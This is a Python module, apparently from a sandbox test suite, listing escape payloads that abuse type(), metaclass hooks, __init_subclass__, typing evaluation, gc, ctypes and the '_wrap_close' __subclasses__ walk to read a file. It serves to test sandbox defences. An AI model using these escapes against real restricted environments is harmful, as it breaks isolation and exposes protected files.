"""Classes made at run time, and code that runs because a class is made."""

from __future__ import annotations

from scripts.escapes.payloads import family

PAYLOADS = family(
    "type and metaclass tricks",
    r"""
## type with three arguments
X = type('X', (), {'reveal': lambda s: open(path).read()})
return X().reveal()
## type of the receiver
return type(self).__init__.__globals__['__builtins__']['open'](path).read()
## type by the class of a class
t = int.__class__
X = t('X', (), {'reveal': lambda s: open(path).read()})
return X().reveal()
## a metaclass's prepare
class M(type):
    @classmethod
    def __prepare__(cls, name, bases):
        return {'got': open(path).read()}
class X(metaclass=M):
    pass
return X.got
## a metaclass's getattr
class M(type):
    def __getattr__(cls, name):
        return open(path).read()
class X(metaclass=M):
    pass
return X.it
## __init_subclass__
seen = []
class A:
    def __init_subclass__(cls):
        seen.append(open(path).read())
class B(A):
    pass
return seen[0]
## __build_class__
import builtins
X = builtins.__build_class__(lambda: None, 'X')
return won if X else 0
## a namedtuple evaluates its source
X = collections.namedtuple('X', 'a')
return won if X.__new__.__globals__ is not None else 0
## a namedtuple with a hostile name
return won if collections.namedtuple('X', ['a'], module='os').__module__ == 'os' else 0
## types.new_class
import types
X = types.new_class('X', (), {}, lambda ns: ns.update(it=won))
return X.it
## types.FunctionType
import types
f = types.FunctionType((lambda: 0).__code__, {'__builtins__': {}})
return won if f() == 0 else 0
## types.CodeType
c = (lambda: 0).__code__
f = type(lambda: 0)(c.replace(co_consts=(None, won)), {})
return won if f else 0
## a dataclass executes its source
import dataclasses
X = dataclasses.make_dataclass('X', [('a', int)])
return won if X(1).a else 0
## an Enum
import enum
X = enum.Enum('X', 'a b')
return won if X.a else 0
## typing evaluates forward references
import typing
def inner():
    pass
inner.__annotations__ = {'x': "open('%s').read()" % path}
try:
    return typing.get_type_hints(inner)['x']
except SyntaxError as exc:
    return exc.text
## isinstance with a class of ours
class M(type):
    def __instancecheck__(cls, obj):
        raise ValueError(open(path).read())
class X(metaclass=M):
    pass
return isinstance(1, X)
## isinstance with what is no class?
return isinstance(1, self)
## a class through a Guarded name?
return [c for c in int.kind.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## a Guarded name's maker?
!function int.make
## str's maker by getattr?
!function getattr(str, 'ma' + 'ke')
## the object of a case pattern
match self:
    case int(real=x):
        return won
    case object() as o:
        return o.__class__.__init__.__globals__['__builtins__']['open'](path).read()
## mutating a type's dict by gc
import gc
gc.get_referents(int.__dict__)[0]['poisoned'] = won
return (1).poisoned
## ctypes pokes a type
import ctypes
return ctypes.string_at(id(won) + 48 + 0, 0) and won or won
## abstract base registers
import abc
class A(abc.ABC):
    pass
A.register(int)
return won if isinstance(1, A) else 0
## weakref to the receiver
import weakref
return won if weakref.ref(self)() is self else 0
## super of the receiver?
return super().__init__.__self__ and won
## super with arguments
return won if super(type(self), self) else 0
## the receiver's constructor
return won if type(self)() is not None else 0
## become another class's object?
self.become(1)
return won
## a parent that is a class?
self.adopt(int)
return won
""",
)
